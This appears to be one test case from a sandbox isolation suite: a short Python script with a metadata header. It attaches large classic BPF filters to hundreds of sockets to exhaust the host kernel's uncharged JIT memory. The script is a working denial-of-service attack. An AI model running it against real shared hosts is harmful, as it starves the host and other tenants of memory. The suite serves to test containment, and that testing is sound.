# guest: attaches programs to sockets, which the kernel compiles into memory that nobody is charged for
# source: bpf_jit_limit in the kernel's Documentation/admin-guide/sysctl/net.rst
# attacks: the host's memory; the room that new boxes need for their own filters
# walls: Seccomp
# observer: programs_compiled
# oracle: the kernel's compiled programs, counted from outside, grew by megabytes
# status: ok
# credit: ENOPROTOOPT
# options: --open-files 1024
# note: a program may have no more instructions: net.core.optmem_max was 20 KiB until Linux 6.8.
import ctypes
import errno
import socket
import struct

from attack import hold, tell

ADD, KEEP = struct.pack("HBBI", 0x04, 0, 0, 0x12345), struct.pack("HBBI", 0x06, 0, 0, 0xFFFF)
code = ctypes.create_string_buffer(ADD * 1999 + KEEP)
program = struct.pack("HxxxxxxQ", 2000, ctypes.addressof(code))
kept = []
try:
    for _ in range(500):
        end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        end.setsockopt(socket.SOL_SOCKET, 26, program)
        kept.append(end)
except OSError as error:
    tell("attach", errno.errorcode[error.errno or 0])
tell("attached", len(kept))
hold("attached")
